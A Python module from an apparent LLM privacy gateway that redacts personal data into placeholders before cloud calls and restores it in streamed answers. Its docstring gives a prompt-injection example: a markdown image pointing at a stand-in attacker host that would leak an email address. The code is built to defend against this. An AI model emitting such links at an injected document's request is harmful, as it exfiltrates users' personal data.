"""The redact mode's two halves: personal data out before the cloud call, back in after.

Each distinct value gets one placeholder (``[EMAIL_1]``, ``[PHONE_2]``, ...),
the same everywhere it appears, so the cloud model can still refer to it. The
placeholders are restored in the answer, also while it streams: a piece that
ends inside a possible placeholder is held back until the next piece decides it.

A placeholder is restored only where the answer uses it as text, never inside
something a client may fetch: a URL, a markdown link or image target, an HTML
tag. A prompt-injected document can ask the cloud model for
``![](https://evil.example/?q=[EMAIL_1])``; restoring there would make the
gateway itself write the secret into a link that a markdown client loads. Such
a placeholder stays as it is.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import Any

from hybridgate.router.privacy import PersonalDataDetector
from hybridgate.serving.backends.base import ChatParams
from hybridgate.serving.cloud_request import rewrite_strings

_PLACEHOLDER = re.compile(r"\[(?:EMAIL|IBAN|CARD|PHONE|NAME)_\d+\]")
_LONGEST = len("[EMAIL_999]")
_CONTEXT = 2048  # how much text before a placeholder decides whether it sits inside a link
_LINKISH = re.compile(r"://|www\.|\]\(|\b(?:src|href|action|srcset|poster|data|formaction)\s{0,3}=|url\(", re.I)
NOTE = (
    "Some values in this conversation were replaced by placeholders such as [EMAIL_1] or [NAME_1]. "
    "Keep every placeholder exactly as written wherever you need the value."
)


@dataclass
class Redaction:
    originals: dict[str, str] = field(default_factory=dict)  # placeholder -> original value

    def restore(self, text: str, before: str = "") -> str:
        """``text`` with its placeholders restored where they are plain text; ``before`` is what preceded it."""

        def one(m: re.Match[str]) -> str:
            if m.group(0) not in self.originals or in_link((before + text[: m.start()])[-_CONTEXT:]):
                return m.group(0)
            return self.originals[m.group(0)]

        return _PLACEHOLDER.sub(one, text)

    @property
    def count(self) -> int:
        return len(self.originals)


def in_link(before: str) -> bool:
    """Whether a placeholder that follows ``before`` sits inside a URL, a link or image target, or an HTML tag."""
    line = before[before.rfind("\n") + 1 :]
    token = line[max(line.rfind(" "), line.rfind("\t")) + 1 :]
    if _LINKISH.search(token):
        return True
    target = line.rfind("](")
    if target != -1 and ")" not in line[target + 2 :]:
        return True  # inside a markdown target, spaces included: [a](<https://x/ y [EMAIL_1]>)
    return line.rfind("<") > line.rfind(">")  # inside an HTML tag


def with_arguments(calls: list[dict[str, Any]], change: Callable[[str], str]) -> list[dict[str, Any]]:
    """Tool calls with ``change`` applied to each one's arguments (redacting them, or restoring them)."""
    return [{**c, "function": {**c["function"], "arguments": change(c["function"]["arguments"])}} for c in calls]


class _Redactor:
    """One placeholder per distinct value, shared by every string of one request."""

    def __init__(self, detector: PersonalDataDetector) -> None:
        self.detector = detector
        self.redaction = Redaction()
        self._by_value: dict[tuple[str, str], str] = {}
        self._counters: dict[str, int] = {}

    def __call__(self, text: str) -> str:
        pieces: list[str] = []
        pos = 0
        for f in self.detector.find(text):
            key = (f.kind, f.value)
            if key not in self._by_value:
                self._counters[f.kind] = self._counters.get(f.kind, 0) + 1
                self._by_value[key] = f"[{f.kind.upper()}_{self._counters[f.kind]}]"
                self.redaction.originals[self._by_value[key]] = f.value
            pieces.append(text[pos : f.start])
            pieces.append(self._by_value[key])
            pos = f.end
        pieces.append(text[pos:])
        return "".join(pieces)


def _with_note(messages: list[dict[str, Any]], red: Redaction) -> list[dict[str, Any]]:
    return [{"role": "system", "content": NOTE}, *messages] if red.count else messages


def redact_messages(messages: list[dict[str, Any]], detector: PersonalDataDetector) -> tuple[list[dict[str, Any]], Redaction]:
    """Messages with personal data replaced (content, tool-call arguments and ids, names), and a system note
    telling the cloud model to keep the placeholders."""
    redact = _Redactor(detector)
    out: list[dict[str, Any]] = []
    for m in messages:
        msg = {**m, "content": redact(m["content"] or "")}
        if m.get("tool_calls"):  # the arguments of earlier calls are content too, and an id is text the cloud reads
            msg["tool_calls"] = [{**c, "id": redact(c.get("id") or "")} for c in with_arguments(m["tool_calls"], redact)]
        for key in ("tool_call_id", "name"):
            if isinstance(m.get(key), str):
                msg[key] = redact(m[key])
        out.append(msg)
    return _with_note(out, redact.redaction), redact.redaction


def redact_request(params: ChatParams, detector: PersonalDataDetector) -> tuple[ChatParams, Redaction]:
    """The cloud's view of ``params`` with personal data replaced in every string it carries (the same strings
    the privacy decision read: see :mod:`cloud_request`), one placeholder per value across all of them."""
    redact = _Redactor(detector)
    out = rewrite_strings(params, redact)
    return replace(out, messages=_with_note(out.messages, redact.redaction)), redact.redaction


class StreamRestorer:
    """Restores placeholders in a stream of text pieces, holding back only what could be half a placeholder."""

    def __init__(self, redaction: Redaction) -> None:
        self.redaction = redaction
        self._held = ""
        self._seen = ""  # the answer's raw text so far (its tail), to tell a link from plain text

    def feed(self, piece: str) -> str:
        text = self._held + piece
        cut = text.rfind("[")
        if cut != -1 and "]" not in text[cut:] and len(text) - cut < _LONGEST:
            self._held, text = text[cut:], text[:cut]
        else:
            self._held = ""
        return self._emit(text)

    def flush(self) -> str:
        text, self._held = self._held, ""
        return self._emit(text)

    def _emit(self, text: str) -> str:
        out = self.redaction.restore(text, self._seen)
        self._seen = (self._seen + text)[-_CONTEXT:]
        return out
